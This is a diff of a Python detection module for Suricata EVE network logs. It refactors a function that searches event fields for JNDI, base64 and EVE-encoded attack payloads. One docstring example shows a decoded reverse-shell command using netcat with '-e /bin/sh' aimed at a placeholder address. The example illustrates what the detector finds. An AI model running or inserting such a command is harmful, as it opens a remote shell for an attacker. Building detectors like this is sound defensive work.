@@ -2,7 +2,7 @@
 
 from __future__ import annotations
 
-from typing import TYPE_CHECKING, Literal, get_args
+from typing import TYPE_CHECKING, Any, Literal, NamedTuple, get_args
 
 import numpy as np
 import pandas as pd
@@ -30,7 +30,7 @@ if TYPE_CHECKING:
 
     from suricata_eve.analysis.hidden import Finding
 
-__all__ = ["payloads"]
+__all__ = ["Kind", "Wanted", "Where", "found_payloads", "payloads", "payloads_table", "searched"]
 
 Kind = Literal["jndi", "base64", "eve"]
 Wanted = Literal["command", "text", "any"]
@@ -140,29 +140,99 @@ def payloads(
     >>> found["decoded"].iloc[0]
     'nc 192.0.2.66 4444 -e /bin/sh'
     """
+    rows, found = found_payloads(frame, columns, kinds=kinds, content=content)
+    sides = orientation(frame, rows) if has_ends(frame) else None
+    return payloads_table(frame, rows, found, sides)
+
+
+class Where(NamedTuple):
+    """A column to search."""
+
+    place: int
+    """Its number."""
+    name: str
+    decode: bool
+    """Whether EVE has encoded it, and what it holds is wanted."""
+    look: bool
+    """Whether to look for what is hidden in it."""
+
+
+def searched(
+    frame: pd.DataFrame,
+    columns: str | Sequence[str] | None,
+    *,
+    kinds: Kind | Sequence[Kind],
+) -> list[Where]:
+    """Return the columns in which :func:`payloads` searches.
+
+    Parameters
+    ----------
+    frame : DataFrame
+        Any events; only its columns and dtypes matter.
+    columns, kinds : object
+        As :func:`payloads` takes them.
+
+    Returns
+    -------
+    list of Where
+        In the order of the frame.
+    """
     chosen = _choices("kinds", kinds, get_args(Kind))
-    (wanted,) = _choices("content", content, get_args(Wanted))
     if isinstance(columns, str):
         columns = [columns]
     if columns is not None:
         require_columns(frame, columns, method="payloads")
     search = bool(chosen & {"jndi", "base64"})
     encoded = EVE_BASE64 if columns is None else ALL_BASE64
-    gathering = Gathering(binary=wanted == "any")
-    for name, column in frame.items():
+    found = []
+    labels: list[object] = list(frame.columns)
+    for place, (name, dtype) in enumerate(zip(labels, frame.dtypes, strict=True)):
         if not isinstance(name, str) or (columns is not None and name not in columns):
             continue
-        if "eve" in chosen and name in encoded:
-            gathering.decode(name, _texts(column))
-        if search and (columns is not None or is_attacker_text(name)):
-            gathering.look(name, _texts(column))
+        decode = "eve" in chosen and name in encoded
+        look = search and (columns is not None or is_attacker_text(name))
+        if (decode or look) and _may_hold_text(dtype):
+            found.append(Where(place, name, decode, look))
+    return found
+
+
+def found_payloads(
+    frame: pd.DataFrame,
+    columns: str | Sequence[str] | None = None,
+    *,
+    kinds: Kind | Sequence[Kind] = ("jndi", "base64"),
+    content: Wanted = "command",
+) -> tuple[NDArray[np.int64], dict[str, pa.Array]]:
+    """Find what :func:`payloads` tells, but for what it tells of the events.
+
+    Parameters
+    ----------
+    frame, columns, kinds, content : object
+        As :func:`payloads` takes them.
+
+    Returns
+    -------
+    rows : ndarray of int64
+        For each finding the position of its event, ascending.
+    found : dict of str to pyarrow.Array
+        The columns of the findings.
+    """
+    chosen = _choices("kinds", kinds, get_args(Kind))
+    (wanted,) = _choices("content", content, get_args(Wanted))
+    gathering = Gathering(binary=wanted == "any")
+    for place, name, decode, look in searched(frame, columns, kinds=kinds):
+        texts = _texts(frame.iloc[:, place])
+        if decode:
+            gathering.decode(name, texts)
+        if look:
+            gathering.look(name, texts)
     findings, found = gathering.search()
     ranks = np.array([specificity(name) for name in gathering.names], dtype=np.int64)
     keep = ~find_copies(found, findings, ranks) & _worth(findings, chosen, wanted)[found.findings]
     order = np.flatnonzero(keep)
     order = order[np.lexsort((ranks[found.columns[order]], found.rows[order]))]
     fields = pa.array(gathering.names, pa.string()).take(pa.array(found.columns[order]))
-    return _table(frame, found.rows[order], fields, _values(findings, found.findings[order]))
+    return found.rows[order], {"field": fields, **_values(findings, found.findings[order])}
 
 
 def _choices(option: str, given: Sequence[str], known: Sequence[str]) -> set[str]:
@@ -177,10 +247,7 @@ def _choices(option: str, given: Sequence[str], known: Sequence[str]) -> set[str
 
 
 def _texts(column: pd.Series) -> pa.ChunkedArray:
-    """Return a column as Arrow data if it can hold text, else without any rows."""
-    kind = column.dtype.pyarrow_dtype if isinstance(column.dtype, pd.ArrowDtype) else None
-    if column.dtype.kind in "biufcmM" or (kind is not None and not _may_hold_text(kind)):
-        return pa.chunked_array([], pa.string())
+    """Return a column that may hold text as Arrow data, without any rows if it holds none."""
     try:
         data = arrow_column(column)
     except EveTypeError:  # a column of objects of several kinds: the texts among them
@@ -189,7 +256,10 @@ def _texts(column: pd.Series) -> pa.ChunkedArray:
     return data if has_text(data.type) else pa.chunked_array([], pa.string())
 
 
-def _may_hold_text(kind: pa.DataType) -> bool:
+def _may_hold_text(dtype: Any) -> bool:
+    if not isinstance(dtype, pd.ArrowDtype):
+        return dtype.kind not in "biufcmM"
+    kind = dtype.pyarrow_dtype
     return has_text(kind.value_type if pa.types.is_dictionary(kind) else kind)
 
 
@@ -248,25 +318,38 @@ def _flow_ids(column: pd.Series) -> pa.ChunkedArray:
     return data
 
 
-def _table(
+def payloads_table(
     frame: pd.DataFrame,
     rows: NDArray[np.int64],
-    fields: pa.Array,
-    values: dict[str, pa.Array],
+    found: dict[str, pa.Array],
+    sides: pd.DataFrame | None,
 ) -> pd.DataFrame:
-    """Put the event, the field and the finding of each row side by side."""
+    """Put the event and the finding of each row side by side.
+
+    Parameters
+    ----------
+    frame : DataFrame
+        Events; of the columns that are not searched, those that it has are told.
+    rows, found : object
+        What :func:`found_payloads` returns.
+    sides : DataFrame, optional
+        What :func:`orientation` tells of these rows; missing without it.
+
+    Returns
+    -------
+    DataFrame
+        What :func:`payloads` returns.
+    """
     read = {"timestamp": instant_column, "flow_id": _flow_ids, "event_type": text_column}
     data: dict[str, pa.Array | pa.ChunkedArray] = {}
-    sides = orientation(frame, rows) if has_ends(frame) else pd.DataFrame()
     for name, kind in _OF_EVENT.items():
-        if name in sides:
+        if sides is not None and name in sides:
             data[name] = text_column(sides[name])
-        elif name in frame.columns:
+        elif name in read and name in frame.columns:
             data[name] = read[name](take_column(frame[name], rows)).cast(kind)
         else:
             data[name] = pa.nulls(len(rows), kind)
-    data["field"] = fields
-    data.update(values)
+    data.update(found)
     index = frame.index.take(rows)
     return pd.DataFrame(
         {
